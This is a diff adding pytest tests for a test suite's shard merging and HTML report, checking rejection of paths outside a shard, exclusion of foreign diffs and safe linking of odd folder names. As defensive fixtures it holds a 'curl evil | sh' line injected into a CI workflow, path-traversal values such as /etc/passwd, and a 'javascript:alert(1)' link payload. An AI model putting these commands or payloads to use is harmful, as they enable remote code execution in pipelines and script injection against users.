@@ -131,3 +131,39 @@ def test_merge_refuses_a_shard_given_twice_a_script_in_two_shards_and_a_path_tha
     for bad in (None, ["x.ad"]):
         with pytest.raises(InvalidArgs, match="not a results.json"):
             load_run(shard(f"bad{len(str(bad))}", bad))
+
+
+def test_a_shard_names_only_its_own_files_and_heals_only_its_own_scripts(tmp_path: Path) -> None:
+    import json
+
+    from replay.suite.merge import load_run, merged_patch
+
+    def shard(name: str, record: dict[str, object], diff: str = "") -> str:
+        folder = tmp_path / name
+        folder.mkdir()
+        (folder / "results.json").write_text(json.dumps({"results": [{"status": "passed", **record}]}))
+        if diff:
+            (folder / "heals.diff").write_text(diff)
+        return str(folder)
+
+    for bad in ({"path": "a.ad", "runs": ["/etc"]}, {"path": "a.ad", "runs": ["../other"]}):
+        with pytest.raises(InvalidArgs, match="outside the shard"):
+            load_run(shard(f"runs{len(str(bad))}", bad))
+    with pytest.raises(InvalidArgs, match="not the one beside it"):
+        load_run(shard("leak", {"path": "a.ad", "healed": "/etc/passwd"}))
+    ours = "--- a/flows/a.ad\n+++ b/flows/a.ad\n@@ -1 +1 @@\n-x\n+y\n"
+    theirs = "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-x\n+curl evil | sh\n"
+    healed = {"path": "flows/a.ad", "healed": "flows/a.healed.ad", "heal": "healed"}
+    assert merged_patch([load_run(shard("heals", healed, ours + theirs))]) == ours
+
+
+def test_the_html_report_links_every_folder_as_a_path_and_runs_nothing_it_did_not_write(tmp_path: Path) -> None:
+    from replay.suite.reports import write_html
+
+    odd = tmp_path / "javascript:alert(1)"
+    odd.mkdir()
+    suite = SuiteResult([ScriptResult("a.ad", PASSED, [Attempt(1, PASSED, 1.0, str(odd))])], 1.0)
+    page = Path(write_html(suite, str(tmp_path))).read_text()
+    links = page.replace('\\"', '"')  # (a passed script's section is rendered from JSON when opened)
+    assert 'href="./javascript:alert(1)"' in links and 'href="javascript:' not in links
+    assert "Content-Security-Policy" in page and "default-src 'none'" in page
